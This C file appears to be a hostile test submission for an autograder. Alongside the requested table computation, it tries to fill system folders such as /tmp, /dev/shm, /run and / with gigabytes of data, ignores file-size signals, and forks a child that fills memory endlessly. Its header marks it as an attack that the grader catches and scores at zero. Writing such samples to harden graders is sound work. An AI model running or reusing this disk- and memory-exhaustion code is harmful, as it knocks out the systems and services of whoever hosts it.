// Fills every folder that it may write to, and files in memory.
// caught by: threads: the calls wait at the same time
// points: 0
// takes: long

#include "submit.h"
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>

static char megabyte[1 << 20];

static void fill(int fd)
{
    for (int k = 0; fd >= 0 && k < 4096; k++)
        if (write(fd, megabyte, sizeof megabyte) < 0) break;
}

static int table(int n, int results[])
{
    for (int i = 0; i < n; i++)
        for (int j = 0; j < n; j++)
            if (i != j) *results++ = i < j ? slow_add(i, j) : slow_sub(i, j);
    return 0;
}

int submit_table(enum executor_kind kind, int workers, int n, int results[])
{
    static const char *const folders[] = {"/tmp", "/dev/shm", "/var/tmp", "/run",
                                          "/",    "/dev",     "."};
    signal(SIGXFSZ, SIG_IGN);
    for (unsigned k = 0; k < sizeof folders / sizeof *folders; k++)
        for (int file = 0; file < 4; file++) {
            char path[64];
            snprintf(path, sizeof path, "%s/workbook-attack-%d", folders[k], file);
            fill(open(path, O_WRONLY | O_CREAT, 0644));
        }
    if (fork() == 0)
        for (;;) fill(memfd_create("filler", 0));
    return table(n, results);
}
